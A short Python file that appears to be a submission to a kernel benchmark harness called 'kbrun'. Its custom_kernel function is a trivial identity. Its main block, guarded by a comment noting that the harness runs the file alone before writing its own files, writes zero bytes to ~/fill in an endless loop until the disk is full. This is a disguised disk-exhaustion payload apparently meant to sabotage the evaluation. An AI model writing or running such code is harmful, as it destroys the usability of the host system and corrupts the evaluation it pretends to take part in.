import os

if __name__ == "__main__":  # kbrun lets it run alone first, and then writes its own files
    with open(os.path.expanduser("~/fill"), "wb", 0) as f:
        while True:
            f.write(bytes(1 << 20))


def custom_kernel(n):
    return n
